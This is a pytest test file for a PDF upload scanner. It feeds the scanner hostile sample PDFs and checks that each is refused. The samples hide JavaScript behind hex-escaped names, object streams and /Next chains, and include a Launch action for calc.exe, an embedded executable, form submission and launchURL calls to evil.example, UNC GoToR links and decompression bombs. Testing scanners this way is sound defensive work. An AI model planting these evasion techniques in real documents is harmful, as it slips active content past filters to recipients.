"""Evidence PDFs are inspected on their parsed object graph: every way of hiding active content
that matching bytes missed is refused, with its own reason, and clean PDFs pass."""

from __future__ import annotations

import re
import zlib
from collections.abc import Iterator

import pytest
import weasyprint

from certification.portfolio import pdfscan
from certification.portfolio.pdfscan import inspect_pdf
from certification.portfolio.pool import _check_upload_in_child
from certification.portfolio.sandbox import Sandbox, SandboxFailed
from certification.portfolio.uploads import CheckedFile, UploadRejected, check_upload
from tests.support.pdfs import (
    encrypted,
    flate_bomb,
    in_object_streams,
    object_stream_bomb,
    one_page,
    stream,
)

MB = 1024 * 1024
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
# The check this replaces: what a test below must show it missed.
OLD_ACTIVE = re.compile(rb"/(JavaScript|JS|Launch|EmbeddedFile|RichMedia|XFA)\b")


def _missed_by_bytes(data: bytes) -> bool:
    return not OLD_ACTIVE.search(data) and b"/Encrypt" not in data


def _escaped_encryption() -> bytes:
    data = encrypted()
    assert data.count(b"/Encrypt") == 1  # the trailer's entry: write it with a # escape
    return data.replace(b"/Encrypt", b"/Encr#79pt")


def flate_bomb_twice() -> bytes:
    return zlib.compress(flate_bomb(40), 9)


def compressed_text() -> bytes:
    content = b"BT /F1 12 Tf 72 712 Td (Relazione) Tj ET\n" * 2000
    return stream(b"/Filter /FlateDecode", zlib.compress(content))


# (name, PDF, reason): each hiding place of the attack run, and the rest of what is refused.
ATTACKS = [
    (
        "hex-escaped names",
        one_page(b"/OpenAction 4 0 R", b"", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "pdf_javascript",
    ),
    (
        "action in a compressed object stream",
        in_object_streams(one_page(b"/OpenAction " + JS)),
        "pdf_javascript",
    ),
    (
        "JavaScript in the Names tree",
        in_object_streams(
            one_page(
                b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>",
                b"",
                b"<< /S /JavaScript /JS 5 0 R >>",
                stream(b"", b"app.launchURL('https://evil.example/');"),
            )
        ),
        "pdf_javascript",
    ),
    (
        "/AA on a page",
        in_object_streams(one_page(b"", b"/AA << /O " + JS + b" >>")),
        "pdf_javascript",
    ),
    (
        "/AA on a form field",
        in_object_streams(
            one_page(
                b"/AcroForm << /Fields [4 0 R] >>",
                b"/Annots [4 0 R]",
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /P 3 0 R"
                b" /AA << /K " + JS + b" >> >>",
            )
        ),
        "pdf_javascript",
    ),
    (
        "a circular /Next chain ending in JavaScript",
        one_page(
            b"/OpenAction 4 0 R",
            b"",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
            b"<< /S /J#61vaScript /J#53 (app.alert(1)) /Next 4 0 R >>",
        ),
        "pdf_javascript",
    ),
    (
        "Launch",
        in_object_streams(one_page(b"/OpenAction << /S /Launch /F (C:\\\\calc.exe) >>")),
        "pdf_launch",
    ),
    (
        "embedded file in the Names tree",
        in_object_streams(
            one_page(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                b"",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                stream(b"", b"MZ payload"),
            )
        ),
        "pdf_embedded_file",
    ),
    (
        "file attachment annotation",
        in_object_streams(
            one_page(
                b"",
                b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a) >>]",
            )
        ),
        "pdf_embedded_file",
    ),
    (
        "XFA form",
        in_object_streams(
            one_page(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", stream(b"", b"<xdp/>"))
        ),
        "pdf_xfa",
    ),
    ("encrypted, the trailer's name escaped", _escaped_encryption(), "encrypted"),
    ("encrypted with a user password", encrypted("secret"), "encrypted"),
    (
        "RichMedia annotation",
        in_object_streams(
            one_page(b"", b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]")
        ),
        "pdf_rich_media",
    ),
    (
        "SubmitForm",
        one_page(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"),
        "pdf_submit_form",
    ),
    ("ImportData", one_page(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "pdf_import_data"),
    (
        "GoToR in a link",
        one_page(
            b"",
            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >> >>]",
        ),
        "pdf_remote_goto",
    ),
    (
        "GoToE",
        one_page(b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (x) >> >>"),
        "pdf_remote_goto",
    ),
    (
        "a Flate bomb in the page content",
        one_page(b"", b"/Contents 4 0 R", stream(b"/Filter /FlateDecode", flate_bomb(100))),
        "archive_bomb",
    ),
    (
        "a Flate bomb in two layers",
        one_page(
            b"",
            b"/Contents 4 0 R",
            stream(b"/Filter [/FlateDecode /FlateDecode]", flate_bomb_twice()),
        ),
        "archive_bomb",
    ),
    ("not a PDF inside", b"%PDF-1.7\n" + b"\x00garbage" * 100 + b"\n%%EOF\n", "pdf_unreadable"),
]


@pytest.fixture(scope="module")
def child() -> Iterator[Sandbox]:
    """A limited child like the upload pool's, which runs the whole upload check."""
    found = Sandbox()
    yield found
    found.close()


def _in_child(sandbox: Sandbox, data: bytes) -> CheckedFile | str:
    """The service's path: the upload check in the limited child (a refusal's reason)."""
    return sandbox.run(_check_upload_in_child, data, "cv.pdf", 20 * MB)


@pytest.mark.slow
@pytest.mark.parametrize(("data", "reason"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_hidden_active_content_is_refused(child: Sandbox, data: bytes, reason: str) -> None:
    assert reason in pdfscan.REASONS
    assert _in_child(child, data) == reason
    with pytest.raises(UploadRejected) as info:  # and the same in this process
        check_upload(data, "cv.pdf", max_bytes=20 * MB)
    assert info.value.params["reason"] == reason
    assert info.value.errors == {"file": [reason]}


def test_every_attack_but_plain_encryption_got_past_the_byte_check() -> None:
    """What the tests above show is new: the old check stored these as application/pdf."""
    missed = {name for name, data, _ in ATTACKS if _missed_by_bytes(data)}
    assert missed == {name for name, _, _ in ATTACKS} - {"encrypted with a user password"}


def _weasyprint_pdf() -> bytes:
    html = (
        "<h1>Relazione di tirocinio</h1><p>Attività svolte: accoglienza, "
        '<a href="https://example.org/progetto">sito del progetto</a>.</p>'
        "<ul>" + "".join(f"<li>Voce {i}</li>" for i in range(40)) + "</ul>"
    )
    return bytes(weasyprint.HTML(string=html).write_pdf(pdf_variant="pdf/a-3b"))


CLEAN = [
    ("a one-page PDF", one_page()),
    ("the same in object streams", in_object_streams(one_page())),
    (
        "a link to a web page and a GoTo",
        one_page(
            b"/OpenAction [3 0 R /Fit]",
            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /URI /URI (https://example.org) >> >>]",
        ),
    ),
    (
        "circular references everywhere",
        one_page(
            b"/OpenAction 4 0 R /Outlines 6 0 R",
            b"",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
            b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Parent 6 0 R /Self [6 0 R] >>",
        ),
    ),
    ("text that merely mentions /JavaScript", one_page(b"/Note (see /JavaScript /JS)")),
    ("a page that inflates a few times", one_page(b"", b"/Contents 4 0 R", compressed_text())),
]


def test_clean_pdfs_are_accepted(child: Sandbox) -> None:
    for name, data in [*CLEAN, ("rendered by WeasyPrint (PDF/A-3b)", _weasyprint_pdf())]:
        checked = _in_child(child, data)
        assert isinstance(checked, CheckedFile), (name, checked)
        assert checked.media_type == "application/pdf" and checked.data == data, name


def test_a_pdf_cut_short_is_unreadable() -> None:
    with pytest.raises(UploadRejected) as info:
        check_upload(one_page()[:-40], "cv.pdf", max_bytes=MB)
    assert info.value.params["reason"] == "pdf_unreadable"


# --- the bounds ---------------------------------------------------------------------------------


def _many_objects(count: int) -> bytes:
    return one_page(
        b"/Extra [%s]" % b" ".join(b"%d 0 R" % (4 + i) for i in range(count)),
        b"",
        *[b"<< /N %d >>" % i for i in range(count)],
    )


def test_the_walk_is_bounded_in_objects_values_and_time() -> None:
    data = _many_objects(50)
    assert inspect_pdf(data) is None
    assert inspect_pdf(data, max_objects=40) == "pdf_too_complex"
    assert inspect_pdf(data, max_values=100) == "pdf_too_complex"
    assert inspect_pdf(data, max_seconds=0) == "pdf_too_complex"
    # A trailer that announces more objects than allowed is refused before they are read.
    huge = one_page().replace(b"/Size 4 ", b"/Size 99999999 ")
    assert inspect_pdf(huge) == "pdf_too_complex"


def test_deep_nesting_is_walked_without_recursion() -> None:
    nested = b"[" * 400 + b"(x)" + b"]" * 400
    assert inspect_pdf(one_page(b"/Deep " + nested)) is None
    deep_js = b"[" * 400 + JS.replace(b"/JS", b"/J#53") + b"]" * 400
    assert inspect_pdf(one_page(b"/Deep " + deep_js)) == "pdf_javascript"


@pytest.mark.slow
def test_a_damaged_file_is_also_searched_byte_by_byte() -> None:
    """qpdf rebuilds a broken cross-reference table; another reader may rebuild it otherwise
    (keep the first of two objects 4): the bytes of a repaired file are searched too."""
    data = one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>")
    two_objects_4 = data.replace(
        b"4 0 obj", b"4 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n4 0 obj"
    )
    assert inspect_pdf(two_objects_4) == "pdf_javascript"


@pytest.mark.slow
def test_an_object_stream_bomb_stays_in_the_child() -> None:
    """qpdf unpacks an object stream whole to read it: 300 MB here. The child has 256 MB; it
    refuses the file or fails there (and is replaced), and the next file is checked."""
    small = Sandbox(memory_bytes=256 * 2**20, modules=("certification.portfolio.pool",))
    try:
        try:
            outcome: object = _in_child(small, object_stream_bomb(300))
        except SandboxFailed:
            outcome = "failed in the child"
        assert outcome in {"archive_bomb", "pdf_too_complex", "failed in the child"}
        try:
            after = _in_child(small, one_page())
        except SandboxFailed:  # the child the bomb spent died on the next file: replaced
            after = _in_child(small, one_page())
        assert isinstance(after, CheckedFile)
    finally:
        small.close()
